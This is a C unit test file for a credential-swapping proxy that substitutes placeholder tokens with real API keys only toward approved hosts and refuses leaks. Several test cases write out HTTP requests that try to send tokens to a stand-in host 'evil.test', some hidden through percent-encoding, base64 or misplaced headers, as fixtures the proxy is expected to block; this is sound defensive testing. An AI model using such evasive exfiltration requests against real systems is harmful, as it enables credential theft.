/* Credential injection rules, through the real parser, policy and rewriter. */
#include <stdlib.h>

#include "swap/rewrite.h"
#include "tap.h"

#define OPENAI_TOK "keyhole-openai-0123456789abcdef0123456789abcdef"
#define ANTH_TOK   "keyhole-anthropic-fedcba9876543210fedcba9876543210"
#define GROQ_TOK   "keyhole-groq-11112222333344445555666677778888"
#define GEM_TOK    "keyhole-gemini-99998888777766665555444433332222"
#define GIT_TOK    "keyhole-git-token-aaaabbbbccccddddeeeeffff00001111"
#define GH_TOK     "keyhole-gh-token-1212121234343434565656567878787a"
#define GIT_B64 \
	"eC1hY2Nlc3MtdG9rZW46a2V5aG9sZS1naXQtdG9rZW4tYWFhYWJiYmJjY2NjZGRkZGVlZWVmZmZmMDAwMDExMTE="

static struct kh_policy *policy;
static struct kh_secrets secrets;
static struct kh_http_header hdrs[64];
static char outbuf[8192];
static struct kh_rw_result res;

static const char *mappings_json =
	"{\"version\":1,\"tokens\":["
	"{\"proxy_token\":\"" OPENAI_TOK "\",\"env_name\":\"OPENAI_API_KEY\","
	"\"upstream_hosts\":[\"api.openai.com\"],\"match_headers\":[\"Authorization\"]},"
	"{\"proxy_token\":\"" ANTH_TOK "\",\"env_name\":\"ANTHROPIC_API_KEY\","
	"\"upstream_hosts\":[\"api.anthropic.com\"],\"match_headers\":[\"x-api-key\","
	"\"Authorization\"]},"
	"{\"proxy_token\":\"" GROQ_TOK "\",\"env_name\":\"GROQ_API_KEY\","
	"\"upstream_hosts\":[\"api.groq.com\"]},"
	"{\"proxy_token\":\"" GEM_TOK "\",\"env_name\":\"GEMINI_API_KEY\","
	"\"upstream_hosts\":[\"generativelanguage.googleapis.com\"],\"locations\":["
	"{\"type\":\"header\",\"name\":\"x-goog-api-key\"},{\"type\":\"query\",\"name\":\"key\"}]},"
	"{\"proxy_token\":\"" GIT_TOK "\",\"env_name\":\"GIT_TOKEN\","
	"\"upstream_hosts\":[\"git.example.com\"],\"locations\":[{\"type\":\"basic\"}]},"
	"{\"proxy_token\":\"" GH_TOK "\",\"env_name\":\"GH_TOKEN\","
	"\"upstream_hosts\":[\"api.github.com\"],\"locations\":["
	"{\"type\":\"header\",\"name\":\"Authorization\",\"template\":\"token {}\"}]}]}";

static struct kh_policy *build_policy(bool scrub)
{
	static const char *names[] = { "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GROQ_API_KEY",
				       "GEMINI_API_KEY", "GIT_TOKEN",         "GH_TOKEN" };
	static char *clear[] = { "plain.test" };
	struct kh_config cfg;
	struct kh_mappings m;
	struct kh_policy *p;
	struct kh_err err;

	setenv("OPENAI_API_KEY", "sk-REAL-openai", 1);
	setenv("ANTHROPIC_API_KEY", "sk-ant-REAL", 1);
	unsetenv("GROQ_API_KEY"); /* mapped but not loaded */
	setenv("GEMINI_API_KEY", "AIza/REAL+1", 1);
	setenv("GIT_TOKEN", "ghp-REAL-git", 1);
	setenv("GH_TOKEN", "gh-REAL", 1);
	if (kh_secrets_load_env(&secrets, names, 6, &err) != 0)
		abort();
	memset(&cfg, 0, sizeof cfg);
	cfg.scrub_responses = scrub;
	cfg.cleartext_credential_hosts = clear;
	cfg.n_cleartext_credential_hosts = 1;
	if (kh_mappings_parse(mappings_json, strlen(mappings_json), &m, &err) != 0) {
		printf("# %s\n", err.msg);
		abort();
	}
	p = kh_policy_build(&cfg, &m, &secrets, NULL, &err);
	kh_mappings_free(&m);
	if (p == NULL)
		abort();
	return p;
}

static void setup(void)
{
	policy = build_policy(false);
}

/* Parses raw, rewrites it toward host; returns 0/-1 and leaves the output in outbuf. */
static int run(const char *raw, const char *host, uint16_t port, bool tls, bool absolute,
	       const char *target)
{
	struct kh_http_limits lim = { 16384, 64 };
	struct kh_http_error herr;
	struct kh_http_head h = { .headers = hdrs };
	struct kh_buf out;
	size_t scan = 0;
	ssize_t n = kh_http_scan_head((const uint8_t *)raw, strlen(raw), &scan, 16384, &herr);
	struct kh_rw_ctx ctx = { policy,   host,     port, tls ? 443 : 80, tls, absolute,
				 { 0, 0 }, { 0, 0 }, 0 };
	int rc;

	if (n <= 0 || kh_http_parse_request((const uint8_t *)raw, (size_t)n, &lim, &h, &herr) != 0)
		return -2;
	ctx.target = target ? kh_slice_cstr(target) : h.target;
	kh_buf_init(&out, sizeof outbuf - 1);
	rc = kh_rewrite_request(&ctx, &h, &out, &res);
	if (kh_buf_len(&out) > 0)
		memcpy(outbuf, kh_buf_data(&out), kh_buf_len(&out));
	outbuf[kh_buf_len(&out)] = '\0';
	kh_buf_free(&out);
	return rc;
}

static void bearer_swapped_toward_own_host(void)
{
	CHECK_INT(run("POST /v1/chat HTTP/1.1\r\nHost: api.openai.com\r\n"
		      "Authorization: Bearer " OPENAI_TOK "\r\nContent-Length: 2\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  0);
	CHECK(strstr(outbuf, "Authorization: Bearer sk-REAL-openai\r\n") != NULL);
	CHECK(strstr(outbuf, "keyhole-openai") == NULL);
	CHECK(strstr(outbuf, "Content-Length: 2\r\n") != NULL);
	CHECK_INT(res.n_swapped, 1);
	CHECK_STR(res.swapped[0], "OPENAI_API_KEY");
}

static void bearer_toward_other_host_refused(void)
{
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.groq.com\r\nAuthorization: Bearer " OPENAI_TOK
		      "\r\n\r\n",
		      "api.groq.com", 443, true, false, NULL),
		  -1);
	CHECK_INT(res.status, 403);
	CHECK_STR(res.reason, "token_leak_attempt");
	CHECK_INT(strlen(outbuf), 0); /* nothing emitted */
	CHECK(strstr(res.detail, OPENAI_TOK) == NULL);
}

static void header_key_swapped(void)
{
	CHECK_INT(run("POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n"
		      "x-api-key: " ANTH_TOK "\r\n\r\n",
		      "api.anthropic.com", 443, true, false, NULL),
		  0);
	CHECK(strstr(outbuf, "x-api-key: sk-ant-REAL\r\n") != NULL);
	/* the OpenAI token is Authorization-only: in x-api-key it is misplaced */
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nx-api-key: " OPENAI_TOK "\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  -1);
	CHECK_STR(res.reason, "token_misplaced");
}

static void token_anywhere_else_refused(void)
{
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nX-Note: see " OPENAI_TOK
		      " here\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  -1);
	CHECK_STR(res.reason, "token_misplaced");
	CHECK_INT(run("GET /v1/x?key=" OPENAI_TOK " HTTP/1.1\r\nHost: api.openai.com\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  -1);
	CHECK(res.token_in_target);
	/* toward a foreign host the same leak is an exfiltration attempt */
	CHECK_INT(run("GET /?k=" OPENAI_TOK " HTTP/1.1\r\nHost: evil.test\r\n\r\n", "evil.test",
		      443, true, false, NULL),
		  -1);
	CHECK_STR(res.reason, "token_leak_attempt");
	/* a token with a changed prefix still carries the random part */
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer x" OPENAI_TOK
		      "\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  -1);
}

static void unknown_bearer_passes_through(void)
{
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer sk-user-own"
		      "\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  0);
	CHECK(strstr(outbuf, "Authorization: Bearer sk-user-own\r\n") != NULL);
	CHECK_INT(res.n_swapped, 0);
}

static void cleartext_rules(void)
{
	CHECK_INT(run("GET http://api.openai.com/v1 HTTP/1.1\r\nHost: api.openai.com\r\n"
		      "Authorization: Bearer " OPENAI_TOK "\r\n\r\n",
		      "api.openai.com", 80, false, true, "/v1"),
		  -1);
	CHECK_STR(res.reason, "cleartext_credential");
}

static void unavailable_secret(void)
{
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.groq.com\r\nAuthorization: Bearer " GROQ_TOK
		      "\r\n\r\n",
		      "api.groq.com", 443, true, false, NULL),
		  -1);
	CHECK_INT(res.status, 503);
	CHECK_STR(res.reason, "credential_unavailable");
}

static void hop_by_hop_removed(void)
{
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nConnection: keep-alive, X-Drop\r\n"
		      "X-Drop: 1\r\nKeep-Alive: 5\r\nProxy-Authorization: Basic eA==\r\n"
		      "Proxy-Connection: keep-alive\r\nTE: trailers\r\nUpgrade: h2c\r\nX-Keep: "
		      "2\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  0);
	CHECK(strstr(outbuf, "X-Drop") == NULL);
	CHECK(strstr(outbuf, "Keep-Alive") == NULL);
	CHECK(strstr(outbuf, "Proxy-") == NULL);
	CHECK(strstr(outbuf, "Upgrade") == NULL);
	CHECK(strstr(outbuf, "Connection") == NULL);
	CHECK(strstr(outbuf, "TE: trailers\r\n") != NULL);
	CHECK(strstr(outbuf, "X-Keep: 2\r\n") != NULL);
	/* the client's close is its own: the upstream leg stays persistent (poolable) */
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nConnection: close\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  0);
	CHECK(strstr(outbuf, "Connection") == NULL);
	CHECK_INT(run("GET / HTTP/1.0\r\nHost: api.openai.com\r\nConnection: keep-alive\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  0);
	CHECK(strstr(outbuf, "Connection: keep-alive\r\n") != NULL);
	CHECK_INT(run("POST / HTTP/1.1\r\nHost: api.openai.com\r\nConnection: Content-Length\r\n"
		      "Content-Length: 3\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  -1);
	CHECK_INT(res.status, 400);
}

static void websocket_upgrade_kept(void)
{
	CHECK_INT(run("GET /ws HTTP/1.1\r\nHost: api.openai.com\r\nConnection: Upgrade\r\n"
		      "Upgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  0);
	CHECK(res.upgrade);
	CHECK(strstr(outbuf, "Upgrade: websocket\r\n") != NULL);
	CHECK(strstr(outbuf, "Connection: Upgrade\r\n") != NULL);
}

static void host_rules(void)
{
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "api.openai.com", 443, true,
		      false, NULL),
		  -1);
	CHECK_STR(res.reason, "host_mismatch");
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: API.OpenAI.com.:8443\r\n\r\n", "api.openai.com",
		      8443, true, false, NULL),
		  0);
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com:9999\r\n\r\n", "api.openai.com", 8443,
		      true, false, NULL),
		  -1);
	/* absolute-form: Host is replaced by the URL's authority, target made origin-form */
	CHECK_INT(run("GET http://plain.test:8080/p?q HTTP/1.1\r\nHost: other\r\n\r\n",
		      "plain.test", 8080, false, true, "/p?q"),
		  0);
	CHECK(strncmp(outbuf, "GET /p?q HTTP/1.1\r\nHost: plain.test:8080\r\n", 42) == 0);
	CHECK_INT(run("GET / HTTP/1.0\r\n\r\n", "api.openai.com", 443, true, false, NULL), 0);
	CHECK(strstr(outbuf, "Host: api.openai.com\r\n") != NULL);
	CHECK(strstr(outbuf, "Connection: close\r\n") != NULL);
}

/* Found by fuzz_rewrite: a token outside header values left keyhole. */
static void token_in_names_method_and_host(void)
{
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: evil.test\r\n" OPENAI_TOK ": x\r\n\r\n", "evil.test",
		      443, true, false, NULL),
		  -1);
	CHECK(strstr(res.detail, OPENAI_TOK) == NULL);
	CHECK_INT(run(OPENAI_TOK " / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "evil.test", 443, true,
		      false, NULL),
		  -1);
	CHECK_INT(run("GET http://" OPENAI_TOK ".plain.test/v1 HTTP/1.1\r\nHost: x\r\n\r\n",
		      OPENAI_TOK ".plain.test", 80, false, true, "/v1"),
		  -1);
	CHECK(strstr(res.detail, "0123456789abcdef0123456789abcdef") == NULL);
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: " OPENAI_TOK "\r\n\r\n", "api.openai.com", 443, true,
		      false, NULL),
		  -1);
	CHECK_STR(res.reason, "token_leak_attempt"); /* scanned before the Host comparison */
	CHECK(strstr(res.detail, "0123456789abcdef0123456789abcdef") == NULL);
	CHECK_INT(strlen(outbuf), 0);
}

static void query_key_swapped_exactly(void)
{
	CHECK_INT(run("GET /v1beta/m:gen?alt=sse&key=" GEM_TOK "&k2=v%20x HTTP/1.1\r\n"
		      "Host: generativelanguage.googleapis.com\r\n\r\n",
		      "generativelanguage.googleapis.com", 443, true, false, NULL),
		  0);
	/* only the value changes; the secret is percent-encoded where needed */
	CHECK(strncmp(outbuf, "GET /v1beta/m:gen?alt=sse&key=AIza%2FREAL%2B1&k2=v%20x HTTP/1.1\r\n",
		      64) == 0);
	CHECK_STR(res.swapped[0], "GEMINI_API_KEY");
	CHECK(strstr(outbuf, GEM_TOK) == NULL);
	/* first parameter, and twice */
	CHECK_INT(run("GET /x?key=" GEM_TOK "&key=" GEM_TOK " HTTP/1.1\r\n"
		      "Host: generativelanguage.googleapis.com\r\n\r\n",
		      "generativelanguage.googleapis.com", 443, true, false, NULL),
		  0);
	CHECK(strncmp(outbuf, "GET /x?key=AIza%2FREAL%2B1&key=AIza%2FREAL%2B1 HTTP", 51) == 0);
	/* another parameter name, or not the whole value: refused */
	CHECK_INT(run("GET /x?api_key=" GEM_TOK " HTTP/1.1\r\n"
		      "Host: generativelanguage.googleapis.com\r\n\r\n",
		      "generativelanguage.googleapis.com", 443, true, false, NULL),
		  -1);
	CHECK_STR(res.reason, "token_misplaced");
	CHECK_INT(run("GET /x?key=" GEM_TOK "x HTTP/1.1\r\n"
		      "Host: generativelanguage.googleapis.com\r\n\r\n",
		      "generativelanguage.googleapis.com", 443, true, false, NULL),
		  -1);
	/* the OpenAI token has no query location */
	CHECK_INT(run("GET /x?key=" OPENAI_TOK " HTTP/1.1\r\nHost: api.openai.com\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  -1);
	CHECK_STR(res.reason, "token_misplaced");
	/* toward another host: the tripwire */
	CHECK_INT(run("GET /x?key=" GEM_TOK " HTTP/1.1\r\nHost: evil.test\r\n\r\n", "evil.test",
		      443, true, false, NULL),
		  -1);
	CHECK_STR(res.reason, "token_leak_attempt");
	CHECK(strstr(res.detail, GEM_TOK) == NULL);
	CHECK_INT(strlen(outbuf), 0);
	/* percent-encoding a token does not hide it */
	CHECK_INT(run("GET /x?q=keyhole-openai-%30123456789abcdef0123456789abcdef HTTP/1.1\r\n"
		      "Host: evil.test\r\n\r\n",
		      "evil.test", 443, true, false, NULL),
		  -1);
	CHECK_STR(res.reason, "token_leak_attempt");
	/* header location of the same mapping still works */
	CHECK_INT(run("GET /x HTTP/1.1\r\nHost: generativelanguage.googleapis.com\r\n"
		      "x-goog-api-key: " GEM_TOK "\r\n\r\n",
		      "generativelanguage.googleapis.com", 443, true, false, NULL),
		  0);
	CHECK(strstr(outbuf, "x-goog-api-key: AIza/REAL+1\r\n") != NULL);
}

static void basic_swapped_in_either_part(void)
{
	CHECK_INT(run("GET /repo.git/info/refs HTTP/1.1\r\nHost: git.example.com\r\n"
		      "Authorization: Basic " GIT_B64 "\r\n\r\n",
		      "git.example.com", 443, true, false, NULL),
		  0);
	CHECK(strstr(outbuf, "Authorization: Basic eC1hY2Nlc3MtdG9rZW46Z2hwLVJFQUwtZ2l0\r\n") !=
	      NULL);
	CHECK_STR(res.swapped[0], "GIT_TOKEN");
	/* token as the user, empty password */
	CHECK_INT(
		run("GET / HTTP/1.1\r\nHost: git.example.com\r\nAuthorization: basic "
		    "a2V5aG9sZS1naXQtdG9rZW4tYWFhYWJiYmJjY2NjZGRkZGVlZWVmZmZmMDAwMDExMTE6\r\n\r\n",
		    "git.example.com", 443, true, false, NULL),
		0);
	CHECK(strstr(outbuf, "Authorization: Basic Z2hwLVJFQUwtZ2l0Og==\r\n") != NULL);
	/* ordinary Basic credentials pass untouched */
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: git.example.com\r\nAuthorization: Basic "
		      "YWxpY2U6czNjcmV0\r\n\r\n",
		      "git.example.com", 443, true, false, NULL),
		  0);
	CHECK(strstr(outbuf, "Authorization: Basic YWxpY2U6czNjcmV0\r\n") != NULL);
	CHECK_INT(res.n_swapped, 0);
	/* to another host: tripwire */
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Basic " GIT_B64
		      "\r\n\r\n",
		      "evil.test", 443, true, false, NULL),
		  -1);
	CHECK_STR(res.reason, "token_leak_attempt");
	/* a mapping without a basic location: refused, not passed encoded */
	CHECK_INT(
		run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Basic "
		    "dTprZXlob2xlLW9wZW5haS0wMTIzNDU2Nzg5YWJjZGVmMDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n",
		    "api.openai.com", 443, true, false, NULL),
		-1);
	CHECK_STR(res.reason, "token_misplaced");
	/* malformed base64 around an encoded token: still seen */
	CHECK_INT(
		run("GET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Basic !!"
		    "dTprZXlob2xlLW9wZW5haS0wMTIzNDU2Nzg5YWJjZGVmMDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n",
		    "evil.test", 443, true, false, NULL),
		-1);
	CHECK_STR(res.reason, "token_leak_attempt");
	CHECK_INT(run("GET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Basic x"
		      "dTprZXlob2xlLW9wZW5haS0wMTIzNDU2Nzg5YWJjZGVmMDEyMzQ1Njc4OWFiY2RlZg\r\n\r\n",
		      "evil.test", 443, true, false, NULL),
		  -1);
	CHECK_STR(res.reason, "token_leak_attempt");
}

static void template_header_swapped(void)
{
	CHECK_INT(run("GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token " GH_TOK
		      "\r\n\r\n",
		      "api.github.com", 443, true, false, NULL),
		  0);
	CHECK(strstr(outbuf, "Authorization: token gh-REAL\r\n") != NULL);
	CHECK_INT(run("GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Token " GH_TOK
		      "\r\n\r\n",
		      "api.github.com", 443, true, false, NULL),
		  0);
	/* the template is the only form: Bearer is not one of its locations */
	CHECK_INT(run("GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer " GH_TOK
		      "\r\n\r\n",
		      "api.github.com", 443, true, false, NULL),
		  -1);
	CHECK_STR(res.reason, "token_misplaced");
	CHECK_INT(run("GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token " GH_TOK
		      " x\r\n\r\n",
		      "api.github.com", 443, true, false, NULL),
		  -1);
}

static void redaction(void)
{
	char out[256];

	kh_policy_redact(policy, KH_SLICE_LIT("/v1/" OPENAI_TOK "/x"), out, sizeof out);
	CHECK(strstr(out, "0123456789abcdef0123") == NULL);
	CHECK(strstr(out, "/x") != NULL);
	kh_policy_redact(policy, KH_SLICE_LIT("/plain/path"), out, sizeof out);
	CHECK_STR(out, "/plain/path");
	/* percent-encoded byte by byte: once only written to the audit log whole */
	kh_policy_redact(
		policy,
		KH_SLICE_LIT("/v1/%6b%65%79%68%6F%6c%65-openai-%30%31%32%33%34%35%36%37%38%39"
			     "%61%62%63%64%65%66%30%31%32%33%34%35%36%37%38%39%61%62%63%64"
			     "%65%66/x"),
		out, sizeof out);
	CHECK(strstr(out, "%30%31%32%33") == NULL);
	CHECK(strstr(out, "/x") != NULL);
	/* base64 of the token, and the real key in hex */
	kh_policy_redact(
		policy,
		KH_SLICE_LIT("/a2V5aG9sZS1vcGVuYWktMDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY="),
		out, sizeof out);
	CHECK(strstr(out, "MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY") == NULL);
	kh_policy_redact(policy, KH_SLICE_LIT("/736B2D5245414C2D6F70656E6169"), out, sizeof out);
	CHECK(strstr(out, "736B2D5245414C2D6F70656E6169") == NULL);
}

/* While responses are scrubbed, a request carrying a real key is answered
 * whole: a key split across two 206 bodies would pass the scrubber. */
static void range_dropped_when_key_injected(void)
{
	struct kh_policy *plain = policy;
	static const char *req =
		"GET /v1/files/x HTTP/1.1\r\nHost: api.openai.com\r\nRange: bytes=0-9\r\n"
		"If-Range: \"e1\"\r\nRequest-Range: bytes=0-9\r\nAuthorization: Bearer " OPENAI_TOK
		"\r\nAccept-Encoding: br, gzip;q=0.5\r\n\r\n";

	policy = build_policy(true);
	CHECK_INT(run(req, "api.openai.com", 443, true, false, NULL), 0);
	CHECK(res.whole_response);
	CHECK(strstr(outbuf, "Authorization: Bearer sk-REAL-openai\r\n") != NULL);
	CHECK(strstr(outbuf, "Range") == NULL); /* Range, If-Range, Request-Range */
	CHECK(strstr(outbuf, "Accept-Encoding: gzip;q=0.5\r\n") != NULL);
	/* no key in it: the ranges go out (after the other fields) */
	CHECK_INT(run("GET /big HTTP/1.1\r\nHost: api.openai.com\r\nRange: bytes=0-9\r\n"
		      "If-Range: \"e1\"\r\nX-After: 1\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  0);
	CHECK(!res.whole_response);
	CHECK(strstr(outbuf, "X-After: 1\r\nRange: bytes=0-9\r\nIf-Range: \"e1\"\r\n") != NULL);
	/* a Range named in Connection is hop-by-hop: it stays dropped */
	CHECK_INT(run("GET /big HTTP/1.1\r\nHost: api.openai.com\r\nConnection: Range\r\n"
		      "Range: bytes=0-9\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  0);
	CHECK(strstr(outbuf, "Range") == NULL);
	CHECK_INT(run("GET /big HTTP/1.1\r\nHost: api.openai.com\r\nRange: bytes=0-9\r\n"
		      "If-Range: \"e1\"\r\nX-After: 1\r\n\r\n",
		      "api.openai.com", 443, true, false, NULL),
		  0);
	/* no Accept-Encoding: the upstream is told which codings can be read */
	CHECK(strstr(outbuf, "Accept-Encoding: identity\r\n") != NULL);
	kh_policy_unref(policy);
	policy = plain;
	/* not scrubbing: nothing to protect, the request goes out as sent */
	CHECK_INT(run(req, "api.openai.com", 443, true, false, NULL), 0);
	CHECK(!res.whole_response);
	CHECK(strstr(outbuf, "Range: bytes=0-9\r\n") != NULL);
	CHECK(strstr(outbuf, "Accept-Encoding: br, gzip;q=0.5\r\n") != NULL);
}

int main(void)
{
	setup();
	RUN(bearer_swapped_toward_own_host);
	RUN(bearer_toward_other_host_refused);
	RUN(header_key_swapped);
	RUN(token_anywhere_else_refused);
	RUN(unknown_bearer_passes_through);
	RUN(cleartext_rules);
	RUN(unavailable_secret);
	RUN(hop_by_hop_removed);
	RUN(websocket_upgrade_kept);
	RUN(host_rules);
	RUN(token_in_names_method_and_host);
	RUN(query_key_swapped_exactly);
	RUN(basic_swapped_in_either_part);
	RUN(template_header_swapped);
	RUN(redaction);
	RUN(range_dropped_when_key_injected);
	kh_policy_unref(policy); /* also wipes the secrets it took over */
	TAP_DONE();
}
